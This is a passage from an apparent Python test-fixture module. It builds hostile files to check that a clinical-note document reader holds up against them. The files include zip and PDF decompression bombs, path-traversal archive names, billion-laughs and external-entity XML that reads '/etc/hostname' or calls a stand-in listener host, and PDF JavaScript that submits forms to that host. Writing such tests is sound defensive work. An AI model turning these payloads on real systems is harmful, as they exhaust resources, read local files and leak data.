"""Files made to take all time or memory, to reach outside of themselves, or to break what reads them.

Each maker gives a file's content; `ADDRESS` stands in for an address on this machine at which somebody listens, so that
a file that is fetched is noticed. Nothing here is kept in the repository as a file.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from checkers.readers.bounds import MOST_LETTERS, MOST_LINES
from tests.documents.matrix.pdf_sheet import assembled
from tests.documents.matrix.word_package import Parts, package, unzipped, zipped
from tests.documents.word import DECLARATIONS, paragraph, row, run, table

ADDRESS = "http://listener.invalid/"
Maker = Callable[[], bytes]
_MB = 2**20
_DOCUMENT = "word/document.xml"
_WORDS = (
    "Child's Name: Jayden Rivera",
    "Date of Service: 2/10/2026",
    "Time: 9:00 AM - 9:30 AM",
    "Session Notes: Played.",
)


def _chance() -> random.Random:
    return random.Random(20260210)  # noqa: S311 - variety, not secrecy


def _word(body: str) -> bytes:
    return package(body, Parts())


def _note(*more: str) -> str:
    return "".join(map(paragraph, ("Daily Progress Note", *_WORDS, *more)))


def _document(body: str) -> bytes:
    return f"<w:document {DECLARATIONS}><w:body>{body}</w:body></w:document>".encode()


def _replaced(xml: bytes) -> bytes:
    """A Word file whose document is this XML, whatever it is."""
    return zipped({**unzipped(_word("")), _DOCUMENT: xml})


def _varied(count: int, make: Callable[[str], str]) -> str:
    """Many pieces of XML, each with another number in it, so that they do not shrink suspiciously far."""
    chance = _chance()
    return "".join(make(f"{chance.getrandbits(48):012X}") for _ in range(count))


# --- archives --------------------------------------------------------------------------------------------------------


def one_large_part() -> bytes:
    """220 MB of spaces in the document."""
    return _replaced(b"<a>" + b" " * (220 * _MB) + b"</a>")


def one_large_picture() -> bytes:
    """A picture of 220 MB that nobody reads."""
    return zipped({**unzipped(_word(_note())), "word/media/image2.bmp": bytes(220 * _MB)})


def many_parts() -> bytes:
    """Five thousand parts."""
    return zipped({**unzipped(_word(_note())), **{f"word/media/{number}.xml": b"x" for number in range(5_000)}})


def many_large_parts() -> bytes:
    """250 parts of 1 MB, each below the limit for one."""
    parts = {f"word/media/{number}.bmp": bytes(_MB) for number in range(250)}
    return zipped({**unzipped(_word(_note())), **parts})


def archive_in_archive() -> bytes:
    """A Word file in a zip archive in a zip archive, two hundred deep."""
    data = _word(_note())
    for _ in range(200):
        data = zipped({"inner.zip": data}, zipfile.ZIP_STORED)
    return data


def word_file_in_itself() -> bytes:
    """A Word file that holds archives which unpack to gigabytes."""
    inner = zipped({"bomb": bytes(40 * _MB)})
    for _ in range(3):
        inner = zipped({f"{number}.zip": inner for number in range(10)}, zipfile.ZIP_STORED)
    return zipped({**unzipped(_word(_note())), "word/embeddings/o.zip": inner})


def _lying(small: int, real: int) -> bytes:
    """A document that unpacks to another size than the list of parts says."""
    data = bytearray(zipped({**unzipped(_word("")), _DOCUMENT: b"<a>" + b" " * real + b"</a>"}))
    for mark, offset, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            if data[at + name_at : at + name_at + len(_DOCUMENT)] == _DOCUMENT.encode():
                struct.pack_into("<I", data, at + offset, small)
    return bytes(data)


def smaller_than_it_is() -> bytes:
    """The list of parts says one kilobyte; 200 MB come out."""
    return _lying(1_000, 200 * _MB)


def larger_than_it_is() -> bytes:
    """The list of parts says 40 MB; next to nothing comes out."""
    return _lying(40 * _MB, 1_000)


def parts_that_overlap() -> bytes:
    """A thousand entries of the list of parts point to one and the same compressed part."""
    data = zipped({"word/a.xml": bytes(2 * _MB)})
    directory = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[directory:end]
    entries = b"".join(entry.replace(b"word/a.xml", f"w{number:04}/a.xml"[:10].encode()) for number in range(1_000))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1_000, 1_000, len(entries), directory, 0)
    return data[:directory] + entries + tail


def list_of_parts_without_end() -> bytes:
    """Its end says that there are 65,535 parts in a list of four gigabytes."""
    data = bytearray(_word(_note()))
    at = data.rindex(b"PK\x05\x06")
    struct.pack_into("<2H2I", data, at + 8, 0xFFFF, 0xFFFF, 0xFFFFFFFE, 0)
    return bytes(data)


def _named(name: str) -> Maker:
    return lambda: zipped({**unzipped(_word(_note())), name: b"x"})


# --- Word files: depth and width --------------------------------------------------------------------------------------


def _nested(start: str, end: str, depth: int) -> Maker:
    return lambda: _replaced(_document(_note() + start * depth + paragraph("deep") + end * depth))


def _deep_and_long() -> bytes:
    """Tables as deep as they are read, with ten thousand paragraphs in the innermost."""
    lines = _varied(10_000, lambda number: f'<w:p w:rsidR="{number}"><w:r><w:t>Date: {number}</w:t></w:r></w:p>')
    depth = 70
    return _word(_note() + "<w:tbl><w:tr><w:tc>" * depth + lines + "</w:tc></w:tr></w:tbl>" * depth)


def huge_table() -> bytes:
    """A table of 200 x 60,000 cells."""
    one = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 200 + "</w:tr>"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in unzipped(_word("")).items():
            if name != _DOCUMENT:
                archive.writestr(name, content)
        with archive.open(_DOCUMENT, "w") as part:
            part.write(f"<w:document {DECLARATIONS}><w:body><w:tbl>".encode())
            for _ in range(60_000):
                part.write(one.encode())
            part.write(b"</w:tbl></w:body></w:document>")
    return file.getvalue()


def _table(rows: int, columns: int) -> Maker:
    """A table within the limits of an archive."""

    def make() -> bytes:
        cells = _varied(
            rows * columns,
            lambda number: f'<w:tc><w:p w:rsidR="{number}"><w:r><w:t>{number[:4]}</w:t></w:r></w:p></w:tc>',
        )
        size = len(cells) // rows
        lines = "".join(f"<w:tr>{cells[at : at + size]}</w:tr>" for at in range(0, len(cells), size))
        return _word(_note() + f"<w:tbl>{lines}</w:tbl>")

    return make


def _log(rows: int, *, heads: bool = False) -> Maker:
    """A log of sessions, a row each, with a signature in each; `heads`: with its row of labels above each of them."""

    def make() -> bytes:
        head = row("Date of Service", "Start Time", "End Time", "Notes", "Therapist Signature", "Date Signed")
        lines = _varied(
            rows,
            lambda number: (head if heads else "") + row("2/10/2026", "9:00", "9:30", number, "M. Lopez", "2/10/2026"),
        )
        return _word(_note() + table(head, lines))

    return make


def _repeated(count: int, *lines: str) -> Maker:
    """The same labelled lines over and over, as paragraphs of a Word file."""

    def make() -> bytes:
        block = "".join(map(paragraph, lines))
        return _word(_note() + _varied(count, lambda number: block + paragraph(f"No. {number}")))

    return make


def _runs(count: int, inside: str = "<w:t>a</w:t>") -> Maker:
    def make() -> bytes:
        runs = _varied(count, lambda number: f'<w:r w:rsidR="{number}">{inside}</w:r>')
        return _word(f"<w:p>{runs}</w:p>")

    return make


def long_paragraph() -> bytes:
    """One paragraph of eight million letters."""
    return _word(_note() + paragraph(run(_varied(650_000, lambda number: number))))


def many_text_boxes() -> bytes:
    """Twenty thousand text boxes on one paragraph."""
    content = "<w:txbxContent><w:p><w:r><w:t>Date: 1</w:t></w:r></w:p></w:txbxContent>"
    box = f"<w:r><w:pict><v:shape><v:textbox>{content}</v:textbox></v:shape></w:pict></w:r>"
    boxes = _varied(20_000, lambda number: box.replace("<v:shape", f'<v:shape id="{number}"'))
    return _word(f"<w:p>{boxes}</w:p>")


def many_headers() -> bytes:
    """1,500 sections, each with a header of its own."""
    files = unzipped(_word(_note()))
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
    links, sections = "", ""
    for number in range(1_500):
        files[f"word/h{number}.xml"] = f"<w:hdr {DECLARATIONS}>{paragraph(f'Date: {number}')}</w:hdr>".encode()
        links += f'<Relationship Id="h{number}" Type="{kind}" Target="h{number}.xml"/>'
        sections += f'<w:p><w:pPr><w:sectPr><w:headerReference r:id="h{number}"/></w:sectPr></w:pPr></w:p>'
    rels = files["word/_rels/document.xml.rels"].decode()
    files["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", f"{links}</Relationships>").encode()
    files[_DOCUMENT] = files[_DOCUMENT].replace(b"<w:sectPr>", sections.encode() + b"<w:sectPr>")
    return zipped(files)


def many_relationships() -> bytes:
    """A hundred thousand relationships."""
    files = unzipped(_word(_note()))
    links = _varied(100_000, lambda number: f'<Relationship Id="x{number}" Type="t" Target="{number}.xml"/>')
    rels = files["word/_rels/document.xml.rels"].decode()
    return zipped(
        {**files, "word/_rels/document.xml.rels": rels.replace("</Relationships>", f"{links}</Relationships>")}
    )


def many_styles() -> bytes:
    """Forty thousand styles, all of them used."""
    numbers = [f"{number:05}" for number in range(40_000)]
    styles = "".join(f'<w:style w:styleId="s{each}"><w:name w:val="{each * 20}"/></w:style>' for each in numbers)
    body = "".join(f'<w:p><w:pPr><w:pStyle w:val="s{each}"/></w:pPr></w:p>' for each in numbers)
    files = unzipped(_word(_note() + body))
    return zipped({**files, "word/styles.xml": f"<w:styles {DECLARATIONS}>{styles}</w:styles>"})


def many_signatures() -> bytes:
    """1,500 cryptographic signatures of nonsense."""
    part = (
        '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Certificate>MIIF////</X509Certificate></Signature>'
    )
    parts = {f"_xmlsignatures/sig{number}.xml": part for number in range(1_500)}
    return zipped({**unzipped(_word(_note())), **parts})


# --- XML -------------------------------------------------------------------------------------------------------------


def laughing_entities() -> bytes:
    """Entities that grow tenfold nine times over."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return _replaced(f'<!DOCTYPE w [<!ENTITY e0 "ha">{entities}]><w>&e9;</w>'.encode())


def one_large_entity() -> bytes:
    """One entity of 100 kB, used ten thousand times."""
    return _replaced(f'<!DOCTYPE w [<!ENTITY e "{"a" * 100_000}">]><w>{"&e;" * 10_000}</w>'.encode())


def _declared(text: str, encoding: str = "utf-8") -> Maker:
    def make() -> bytes:
        head = f'<?xml version="1.0" encoding="{encoding}"?>{text}<w:document {DECLARATIONS}><w:body>'
        return _replaced(f"{head}<w:p><w:r><w:t>&leak;</w:t></w:r></w:p></w:body></w:document>".encode(encoding))

    return make


def external_relationships() -> bytes:
    """Headers, footnotes, pictures, templates and sub-documents at another place."""
    files = unzipped(_word(_note()))
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    links = "".join(
        f'<Relationship Id="o{number}" Type="{kind}{name}" Target="{ADDRESS}{number}.xml" TargetMode="External"/>'
        for number, name in enumerate(
            ("header", "footnotes", "image", "attachedTemplate", "aFChunk", "subDocument", "oleObject", "settings",
             "styles", "control", "hyperlink")
        )
    )  # fmt: skip
    rels = files["word/_rels/document.xml.rels"].decode()
    files["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", f"{links}</Relationships>").encode()
    uses = (
        '<w:altChunk r:id="o4"/><w:subDoc r:id="o5"/><w:p><w:r><w:footnoteReference w:id="2"/><w:object>'
        '<w:control r:id="o9"/></w:object><w:pict><v:shape><v:imagedata r:id="o2"/></v:shape></w:pict></w:r></w:p>'
        '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="o0"/></w:sectPr></w:pPr></w:p>'
    )
    fields = (f'<w:fldSimple w:instr=" {name} {ADDRESS}x "/>' for name in ("INCLUDETEXT", "INCLUDEPICTURE"))
    field = f"<w:p>{''.join(fields)}</w:p>"
    files[_DOCUMENT] = files[_DOCUMENT].replace(b"<w:sectPr>", (uses + field).encode() + b"<w:sectPr>", 1)
    return zipped(files)


# --- PDFs ------------------------------------------------------------------------------------------------------------

_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
_ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _stream(content: bytes, more: str = "", *, packed: int = 0) -> bytes:
    """A stream object; `packed`: how many times it is compressed."""
    for _ in range(packed):
        content = zlib.compress(content, 9)
    filters = f"/Filter [{'/FlateDecode ' * packed}]" if packed else ""
    return f"<< /Length {len(content)} {filters} {more} >>\nstream\n".encode() + content + b"\nendstream"


def _pdf(content: bytes, *more: bytes, page: str = "", catalogue: bytes = _CATALOGUE, packed: int = 1) -> bytes:
    """A page with this content; objects: 1 catalogue, 2 pages, 3 page, 4 content, 5 font, then `more` from 6 on."""
    own = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        f" /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> {page} >>"
    )
    return assembled([catalogue, _ONE_PAGE, own.encode(), _stream(content, packed=packed), _FONT, *more])


def _text(words: str, x: int, y: float) -> str:
    return f"BT /F1 9 Tf {x} {y:.2f} Td ({words}) Tj ET\n"


_NOTE_TEXT = "".join(_text(words, 50, 740 - 20 * number) for number, words in enumerate(_WORDS)).encode()


def _bomb(packed: int) -> Maker:
    """A content of a gigabyte of spaces, compressed once or over and over."""

    def make() -> bytes:
        content = _spaces_packed(1024)
        for _ in range(packed - 1):
            content = zlib.compress(content, 9)
        filters = f"/Filter [{'/FlateDecode ' * packed}]"
        stream = f"<< /Length {len(content)} {filters} >>\nstream\n".encode() + content + b"\nendstream"
        page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
        return assembled([_CATALOGUE, _ONE_PAGE, page, stream])

    return make


def _spaces_packed(megabytes: int) -> bytes:
    """So many megabytes of spaces, compressed: one packed megabyte over and over, which is made much faster."""
    one, packer = b" " * _MB, zlib.compressobj(9)
    head = packer.compress(b" ") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(one) + packer.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(b" ")
    for _ in range(megabytes):
        check = zlib.adler32(one, check)
    return head + block * megabytes + b"\x03\x00" + check.to_bytes(4)


def picture_of_gigabytes() -> bytes:
    """A picture of 60,000 x 60,000 points."""
    picture = _stream(
        bytes(_MB), "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8"
        " /ColorSpace /DeviceRGB", packed=1,
    )  # fmt: skip
    return _pdf(_NOTE_TEXT + b"q 100 0 0 100 50 50 cm /X Do Q", picture)


def _loops(kind: str) -> Maker:
    """A file whose objects lead back to themselves."""

    def make() -> bytes:
        page = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >>"
        )
        if kind == "pages":
            return assembled([_CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 99 /Parent 2 0 R >>",
                              page + b" >> >>", _stream(_NOTE_TEXT), _FONT])  # fmt: skip
        if kind == "pages by turns":
            return assembled([_CATALOGUE, b"<< /Type /Pages /Kids [6 0 R] /Count 3 >>", page + b" >> >>",
                              _stream(_NOTE_TEXT), _FONT,
                              b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 3 /Parent 2 0 R >>"])  # fmt: skip
        if kind == "form objects":
            inner = _stream(b"/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
                            " /Resources << /XObject << /X 6 0 R >> >>")  # fmt: skip
            return _pdf(_NOTE_TEXT + b"/X Do", inner)
        if kind == "form objects that double":
            forms = [
                _stream(b"/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
                        f" /Resources << /XObject << /X {number + 1} 0 R >> >>")
                for number in range(6, 46)
            ]  # fmt: skip
            return _pdf(_NOTE_TEXT + b"/X Do", *forms, _stream(b"0 0 m 9 9 l S", "/Subtype /Form /BBox [0 0 9 9]"))
        if kind == "parents of fields":
            field = b"<< /Type /Annot /Subtype /Widget /Rect [50 50 90 70] /Parent 7 0 R >>"
            return _pdf(_NOTE_TEXT, field, b"<< /FT /Tx /T (a) /Kids [6 0 R 7 0 R] /Parent 7 0 R >>",
                        page="/Annots [6 0 R]",
                        catalogue=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [7 0 R] >> >>")  # fmt: skip
        if kind == "fields":
            fields = " ".join("6 0 R" for _ in range(50))
            return _pdf(_NOTE_TEXT, f"<< /T (a) /Kids [{fields}] >>".encode(), page="/Annots [6 0 R]",
                        catalogue=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>")  # fmt: skip
        data = _pdf(_NOTE_TEXT)
        start = data.rindex(b"startxref")
        where = data[start:].split()[1].decode()
        return data[: data.rindex(b"trailer")] + (
            f"trailer << /Size 6 /Root 1 0 R /Prev {where} >>\nstartxref\n{where}\n%%EOF".encode()
        )

    return make


def _pages(count: int, words: int) -> Maker:
    """Many pages, with so many words each."""

    def make() -> bytes:
        chance = _chance()
        kids = " ".join(f"{4 + 2 * number} 0 R" for number in range(count))
        objects = [_CATALOGUE, f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(), _FONT]
        for number in range(count):
            lines = "".join(
                _text(" ".join(f"w{chance.randrange(9999)}" for _ in range(12)), 40, 760 - 12 * line)
                for line in range(words // 12)
            )
            objects.append(
                f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {5 + 2 * number} 0 R"
                " /Resources << /Font << /F1 3 0 R >> >> >>".encode()
            )
            objects.append(_stream(lines.encode(), packed=1))
        return assembled(objects)

    return make


def one_page_ten_thousand_times() -> bytes:
    """Ten thousand pages that are one and the same object."""
    kids = b"3 0 R " * 10_000
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return assembled(
        [_CATALOGUE, b"<< /Type /Pages /Kids [" + kids + b"] /Count 10000 >>", page, _stream(_NOTE_TEXT), _FONT]
    )


def _scattered(count: int) -> Maker:
    """So many single letters, each at a height of its own."""

    def make() -> bytes:
        chance = _chance()
        return _pdf(
            "".join(_text("a", 20 + chance.randrange(560), chance.random() * 780) for _ in range(count)).encode()
        )

    return make


def _squares(count: int, side: int = 6) -> Maker:
    """So many little squares, laid beside and over one another."""

    def make() -> bytes:
        chance = _chance()
        places = ((chance.randrange(5_600) / 10, chance.randrange(7_700) / 10) for _ in range(count))
        return _pdf("".join(f"{x} {y} {side} {side} re S\n" for x, y in places).encode() + _NOTE_TEXT)

    return make


def _ticked_in_one_place(count: int) -> Maker:
    """So many little squares with a stroke in each, all in one corner of the page."""

    def make() -> bytes:
        places = ((100 + number % 20, 100 + number // 20 % 20) for number in range(count))
        squares = "".join(f"{x} {y} 6 6 re S {x} {y} m {x + 5} {y + 5} l S\n" for x, y in places)
        return _pdf(squares.encode() + _NOTE_TEXT)

    return make


def _strokes(count: int) -> Maker:
    """So many short slanted strokes, far from one another."""

    def make() -> bytes:
        chance = _chance()
        lines = []
        for _ in range(count):
            x, y = chance.randrange(5_600) / 10, chance.randrange(7_700) / 10
            lines.append(f"{x} {y} m {x + 14} {y + 3} l S\n")
        return _pdf("".join(lines).encode() + _NOTE_TEXT)

    return make


def _grid(lines: int, side: int = 570) -> Maker:
    """A table of so many lines across and so many down."""

    def make() -> bytes:
        step, end = side / lines, 20 + side
        places = [f"{20 + step * number:.3f}" for number in range(lines)]
        across = "".join(f"20 {place} m {end} {place} l S\n" for place in places)
        down = "".join(f"{place} 20 m {place} {end} l S\n" for place in places)
        return _pdf((across + down).encode() + _NOTE_TEXT)

    return make


def _rules(count: int) -> Maker:
    """So many rules to write on, with words all over them."""

    def make() -> bytes:
        chance = _chance()
        lines = "".join(
            f"{20 + chance.randrange(300)} {y:.2f} m {400 + chance.randrange(90)} {y:.2f} l S\n"
            for number in range(count)
            for y in (20 + 0.25 * number,)
        )
        words = "".join(_text("Date ab cd", 20 + chance.randrange(500), chance.random() * 780) for _ in range(5_000))
        return _pdf((lines + words).encode())

    return make


def _notes(count: int, size: int) -> Maker:
    """So many text notes of so many letters each."""

    def make() -> bytes:
        words = "Date: " * (size // 6)
        notes = [
            f"<< /Type /Annot /Subtype /FreeText /Rect [50 {y} 90 {y + 9}] /Contents ({words}) >>".encode()
            for number in range(count)
            for y in (number % 700,)
        ]
        refs = " ".join(f"{6 + number} 0 R" for number in range(count))
        return _pdf(_NOTE_TEXT, *notes, page=f"/Annots [{refs}]")

    return make


def _fields(count: int) -> Maker:
    """So many form fields."""

    def make() -> bytes:
        fields = [
            f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f{number}) /V (Date) /Rect [{number % 500} {number % 700}"
            f" {number % 500 + 30} {number % 700 + 9}] >>".encode()
            for number in range(count)
        ]
        refs = " ".join(f"{6 + number} 0 R" for number in range(count))
        return _pdf(
            _NOTE_TEXT, *fields, page=f"/Annots [{refs}]",
            catalogue=f"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [{refs}] >> >>".encode(),
        )  # fmt: skip

    return make


def many_text_operators() -> bytes:
    """Two million times no letter."""
    return _pdf(b"BT /F1 9 Tf " + b"() Tj " * 2_000_000 + b"ET " + _NOTE_TEXT)


def deep_array() -> bytes:
    """An array in an array, a hundred thousand deep."""
    return _pdf(_NOTE_TEXT, page=f"/Deep {'[' * 100_000}{']' * 100_000}")


def outside_of_the_pdf() -> bytes:
    """Scripts, actions and contents at another place."""
    action = f"<< /S /URI /URI ({ADDRESS}a) >>"
    script = f"<< /S /JavaScript /JS (app.launchURL\\('{ADDRESS}b'\\); this.submitForm\\('{ADDRESS}c'\\)) >>"
    catalogue = (
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {script} /AA << /WC {action} >>"
        f" /Names << /JavaScript << /Names [(a) {script}] >> >> /URI << /Base ({ADDRESS}) >> >>"
    )
    outside = f"<< /Length 0 /F << /Type /Filespec /FS /URL /F ({ADDRESS}d) >> >>\nstream\n\nendstream"
    page = f"/AA << /O {action} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A {action} >>]"
    return _pdf(_NOTE_TEXT, outside.encode(), page=page, catalogue=catalogue.encode())


# --- text ------------------------------------------------------------------------------------------------------------


def _one_line(piece: str, size: int = MOST_LETTERS - 1_000) -> Maker:
    """A note, and below it one line, as long as a document may be."""

    def make() -> bytes:
        note = "\n".join(("Daily Progress Note", *_WORDS))
        return f"{note}\n{(piece * (size // len(piece) + 1))[:size]}x\n".encode()

    return make


def _many_lines(piece: str) -> Maker:
    """A note, and below it this line, as often as a document may have it."""

    def make() -> bytes:
        head = "\n".join(("Daily Progress Note", *_WORDS, ""))
        count = min(MOST_LINES - 20, (MOST_LETTERS - 1_000) // (len(piece) + 1))
        return (head + f"{piece}\n" * count).encode()

    return make


_PIECES = (
    "_", " ", "Date: ", "1", "[", "(", "]", "[ ", "[x] ", "a@", "a", "A", "aA ", ".", ". ", "-", "/", "1/", "1/1/2026 ",
    "1:", "9:00 - ", "x: ", ":", "\t", "\t_", "_ ", "__ ", "| ", "|", "*", "**a", "#", "<", "{{", "«", "A. ", "A B ",
    "Signature: ", "Signature ", "Electronically signed by ", "electronically signed on ", "/s/ A", "e-signed ", "☐ ",
    "☒", "coordinator of services is ", "Does not meet Medicaid requirements ", "Time: 9:00 ", "30 min ", "Mr. A ",
    "Schenectady County ", "County of A ", "é", "\u00a0", "\u2028a", "Jan ", "Jan 1, ", "A'", "(s)",
    "I do not consent ",
    "x will serve as ", "\\", "&", ";", ",", "A,", '"', "0", "½ ", "Session 1 ", "use only ", "P = absent ",
)  # fmt: skip
_LINES = (
    "", "a", "Date: 2/10/2026", "Date of Service: 2/10/2026", "Signature: ____________",
    "Therapist Signature: Maria Lopez",
    "Electronically signed by Maria Lopez on 2/10/2026", "[x] Does not meet Medicaid requirements", "| a | b | c |",
    "| Date | Time | Notes |", "____________________   __________", "Signature            Date", "Session 1",
    "2/10 Played a game.",
    "Date    Time    Notes", "2/10/2026    9:00    Played.", "Coordinator of Services: SLP", "Speech Therapy: 2 x 30",
    "Time: 9:00 - 9:30", "Notes:", "# Date", "FOR OFFICE USE ONLY", "I do not give consent. Signature: ____", "Name: A",
    "P = present, A = absent", "Total sessions", "Parent Signature: ________  Date: ______", "￼",
)  # fmt: skip


def one_line_of_fifty_megabytes() -> bytes:
    """As large as a file may be, and without an end of line."""
    return (b"Date of Service: 2/10/2026 Played a game. " * (50 * _MB // 42 + 1))[: 50 * _MB - 10]


def fifty_megabytes_of_letters() -> bytes:
    """The same without a space."""
    return b"Note: " + b"a" * (50 * _MB - 10)


def million_lines() -> bytes:
    """Lines without end."""
    return b"Played a game with peers.\n" * 1_000_000


def _utf16_of_fifty_megabytes() -> bytes:
    return ("Played a game with peers.\n" * (25 * _MB // 26 - 10)).encode("utf-16")


HOSTILE: dict[str, tuple[Maker, str]] = {
    **{
        f"zip: {name}": (maker, ".docx")
        for name, maker in {
            "one large part": one_large_part, "one large picture": one_large_picture, "many parts": many_parts,
            "many large parts": many_large_parts, "archive in archive": archive_in_archive,
            "word file in itself": word_file_in_itself, "smaller than it is": smaller_than_it_is,
            "larger than it is": larger_than_it_is, "parts that overlap": parts_that_overlap,
            "list of parts without end": list_of_parts_without_end, "name ../": _named("../evil"),
            "name /": _named("/etc/evil"), "name C:": _named("C:\\evil"),
            "name with .. inside": _named("word/../../evil"),
        }.items()
    },
    **{
        f"word: {name}": (maker, ".docx")
        for name, maker in {
            "100,000 nested tables": _nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 100_000),
            "100,000 nested controls": _nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 100_000),
            "100,000 nested insertions": _nested("<w:ins>", "</w:ins>", 100_000),
            "80 nested tables": _nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 80),
            "120 nested controls": _nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 120),
            "deep and long tables": _deep_and_long,
            "table of 200 x 60,000": huge_table,
            "table of 200 x 2,000": _table(2_000, 200),
            "table of 60 x 160": _table(160, 60),
            "table of 5 x 1,900": _table(1_900, 5),
            "table of 5 x 20,000": _table(20_000, 5),
            "log of 1,600 signed rows": _log(1_600),
            "log of 5,000 signed rows": _log(5_000),
            "log of 20,000 signed rows": _log(20_000),
            "log of 2,000 rows, each with its head": _log(2_000, heads=True),
            "1,600 sessions below one another": _repeated(1_600, *_WORDS, "Therapist Signature: /s/ Maria Lopez"),
            "3,600 electronic signatures": _repeated(3_600, "Electronically signed by Maria Lopez on 2/10/2026"),
            "4,000 empty signature lines": _repeated(4_000, "Therapist Signature: ________  Date: ______"),
            "4,200 boxes": _repeated(4_200, "☒ Does not meet Medicaid requirements"),
            "20,000 boxes": _repeated(20_000, "☒ Does not meet Medicaid requirements"),
            "one million runs": _runs(1_000_000),
            "300,000 runs": _runs(300_000),
            "one million tabs": _runs(1_000_000, "<w:tab/>"),
            "300,000 line breaks": _runs(300_000, "<w:br/>"),
            "200,000 fields": _runs(200_000, '<w:fldChar w:fldCharType="begin"/>'),
            "200,000 boxes in a line": _runs(200_000, '<w:sym w:font="Wingdings" w:char="F0FE"/>'),
            "50,000 runs": _runs(50_000),
            "50,000 boxes in a line": _runs(50_000, '<w:sym w:font="Wingdings" w:char="F0FE"/>'),
            "50,000 tabs": _runs(50_000, "<w:tab/>"),
            "long paragraph": long_paragraph,
            "many text boxes": many_text_boxes, "many headers": many_headers, "many relationships": many_relationships,
            "many styles": many_styles, "many signatures": many_signatures,
        }.items()
    },
    **{
        f"xml: {name}": (maker, ".docx")
        for name, maker in {
            "laughing entities": laughing_entities, "one large entity": one_large_entity,
            "entity of a file": _declared('<!DOCTYPE w [<!ENTITY leak SYSTEM "file:///etc/hostname">]>'),
            "entity of a network": _declared(f'<!DOCTYPE w [<!ENTITY leak SYSTEM "{ADDRESS}e">]>'),
            "entity of a network in UTF-16": _declared(f'<!DOCTYPE w [<!ENTITY leak SYSTEM "{ADDRESS}u">]>', "utf-16"),
            "parameter entity": _declared(f'<!DOCTYPE w [<!ENTITY % p SYSTEM "{ADDRESS}p"> %p;]>'),
            "outside DTD": _declared(f'<!DOCTYPE w SYSTEM "{ADDRESS}d.dtd">'),
            "external relationships": external_relationships,
        }.items()
    },
    **{
        f"pdf: {name}": (maker, ".pdf")
        for name, maker in {
            "bomb": _bomb(1), "bomb packed twice": _bomb(2), "bomb packed three times": _bomb(3),
            "picture of gigabytes": picture_of_gigabytes, "pages in themselves": _loops("pages"),
            "pages by turns": _loops("pages by turns"), "form object in itself": _loops("form objects"),
            "form objects that double": _loops("form objects that double"),
            "parents of fields": _loops("parents of fields"), "fields in themselves": _loops("fields"),
            "table of objects in itself": _loops("xref"), "10,000 pages": _pages(10_000, 12),
            "one page 10,000 times": one_page_ten_thousand_times, "500 pages of 600 words": _pages(500, 600),
            "100 pages of 600 words": _pages(100, 600), "20 pages of 600 words": _pages(20, 600),
            "5,000 letters at all heights": _scattered(5_000), "30,000 letters at all heights": _scattered(30_000),
            "2,000 squares": _squares(2_000), "30,000 squares": _squares(30_000), "20,000 strokes": _strokes(20_000),
            "grid of 200 x 200": _grid(200), "grid of 1,400 x 1,400": _grid(1_400), "2,900 rules": _rules(2_900),
            "grid beyond the page": _grid(1_400, 14_000), "ticked squares in one place": _ticked_in_one_place(20_000),
            "20,000 notes": _notes(20_000, 60), "500 long notes": _notes(500, 60_000), "20,000 fields": _fields(20_000),
            "many text operators": many_text_operators, "deep array": deep_array,
            "outside of the PDF": outside_of_the_pdf,
        }.items()
    },
    **{f"text: one line of {piece!r}": (_one_line(piece), ".txt") for piece in _PIECES},
    **{f"text: lines of {line!r}": (_many_lines(line), ".txt") for line in _LINES},
    **{
        f"text: {name}": (maker, ".txt")
        for name, maker in {
            "one line of 50 MB": one_line_of_fifty_megabytes, "50 MB of letters": fifty_megabytes_of_letters,
            "a million lines": million_lines, "50 MB of UTF-16": _utf16_of_fifty_megabytes,
